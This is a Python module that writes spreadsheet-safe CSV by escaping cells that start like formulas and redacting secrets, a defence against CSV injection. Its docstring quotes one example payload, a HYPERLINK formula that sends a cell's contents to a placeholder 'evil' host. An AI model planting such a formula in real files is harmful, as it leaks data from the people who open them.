"""CSV meant for spreadsheets, safe to open: no formula runs from a cell.

A spreadsheet reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return before one) as a formula: a commune name
``=HYPERLINK("http://evil/?"&A1, "Nậm Mòn")`` in ``batch.csv`` would run
when an officer opens the file (CSV injection). Following OWASP's rule, a
text cell starting with one of those characters (or their full-width forms
``＝ ＋ － ＠``) gets a leading single quote, and every text cell is
double-quoted (inner quotes doubled). Numbers written from numbers stay
numbers: ``-5`` from an int is ``-5``; the text ``"-5"`` becomes ``'-5``.

Every secret value is redacted from the cells first
(:func:`ntm_lib.redact.redact_text`), before quoting could change its form.

This is for files people open in a spreadsheet (``batch.csv``,
``batches/*.csv``); data tables (``data/``) are data, written as they are.
"""
from __future__ import annotations

import csv
import io
import math
from typing import Any, Iterable, Mapping, Sequence

from .redact import redact_text, secret_values

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"


def neutralise(value: Any, secrets: list[str] | None = None) -> Any:
    """The value a spreadsheet CSV cell holds: ``None`` -> ``""``; a bool or a
    finite number unchanged (so it stays a number); anything else as text,
    redacted, with a leading ``'`` when it starts like a formula (also after
    leading spaces, which some spreadsheets skip).
    A NaN or infinite float is written as text. ``secrets``: the values to
    redact, when already read (:func:`ntm_lib.redact.secret_values`)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int) or (isinstance(value, float) and math.isfinite(value)):
        return value
    text = redact_text(str(value), secrets)
    if text[:1] in FORMULA_STARTS or text.lstrip(" \t\r\n")[:1] in FORMULA_STARTS:
        text = QUOTE + text
    return text


def csv_text(rows: Iterable[Mapping[str, Any] | Sequence[Any]],
             columns: Sequence[str] | None = None) -> str:
    """CSV text (``\\n`` line ends) of ``rows`` for a spreadsheet: a header of
    ``columns`` (neutralised too) when given, then one line per row (a
    mapping is read by ``columns``, a missing key is empty). Every cell goes
    through :func:`neutralise`; text cells are double-quoted, numbers not."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    secrets = secret_values()  # read once, not once per cell (66,000 cells at 3,321 communes)
    if columns is not None:
        writer.writerow([neutralise(c, secrets) for c in columns])
    for row in rows:
        if isinstance(row, Mapping):
            cells = [row.get(c) for c in columns] if columns is not None else list(row.values())
        else:
            cells = list(row)
        writer.writerow([neutralise(v, secrets) for v in cells])
    return buffer.getvalue()
